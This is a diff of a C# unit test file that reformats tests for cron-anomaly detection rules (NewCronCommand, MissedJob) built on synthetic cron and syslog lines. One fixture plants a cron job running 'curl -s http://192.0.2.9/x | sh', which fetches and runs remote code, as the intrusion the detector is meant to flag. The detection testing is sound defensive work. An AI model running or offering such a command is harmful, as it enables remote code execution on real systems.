@@ -14,11 +14,13 @@ public sealed class CronRulesTests
         string planted = LearnedRun.Cron(s_start.AddDays(9).AddMinutes(5), "curl -s http://192.0.2.9/x | sh");
         RuleHit hit = Assert.Single(LearnedRun.Hits(nameof(NewCronCommand), known + planted));
         Assert.Equal(("root", planted.TrimEnd()), (hit.Entity, hit.Event.Raw));
-        string brief = LearnedRun.Each(5 * 24, hour => LearnedRun.Cron(s_start.AddDays(4).AddHours(hour), "/opt/report --hour 5"));
+        string brief = LearnedRun.Each(
+            5 * 24, hour => LearnedRun.Cron(s_start.AddDays(4).AddHours(hour), "/opt/report --hour 5"));
         Assert.Empty(LearnedRun.Hits(nameof(NewCronCommand), brief + planted));
         Assert.Empty(LearnedRun.Hits(
             nameof(NewCronCommand),
-            known + LearnedRun.Cron(s_start.AddDays(9), "cd / && run-parts --report /etc/cron.monthly") + LearnedRun.Cron(s_start.AddDays(9), "/opt/report --hour 6")));
+            known + LearnedRun.Cron(s_start.AddDays(9), "cd / && run-parts --report /etc/cron.monthly")
+                + LearnedRun.Cron(s_start.AddDays(9), "/opt/report --hour 6")));
     }
 
     [Theory]
@@ -43,12 +45,14 @@ public sealed class CronRulesTests
         string office = LearnedRun.Each(21 * 24, hour =>
             LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(1), "systemd[1]: Started Hourly thing.")
             + LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(31), "systemd[1]: Started Hourly thing.")
-            + (hour % 24 is >= 8 and < 18 && s_start.AddHours(hour).DayOfWeek is not (DayOfWeek.Saturday or DayOfWeek.Sunday)
+            + (hour % 24 is >= 8 and < 18
+                && s_start.AddHours(hour).DayOfWeek is not (DayOfWeek.Saturday or DayOfWeek.Sunday)
                 ? LearnedRun.Cron(s_start.AddHours(hour).AddMinutes(45), "/opt/sync")
                 : ""));
         string off = LearnedRun.Each(20 * 24, hour => hour is > 300 and < 320
             ? ""
-            : LearnedRun.Cron(s_start.AddHours(hour), "/opt/backup") + LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(30), "systemd[1]: Started Hourly thing."));
+            : LearnedRun.Cron(s_start.AddHours(hour), "/opt/backup")
+                + LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(30), "systemd[1]: Started Hourly thing."));
         Assert.Empty(LearnedRun.Hits(nameof(MissedJob), office));
         Assert.Empty(LearnedRun.Hits(nameof(MissedJob), off));
     }
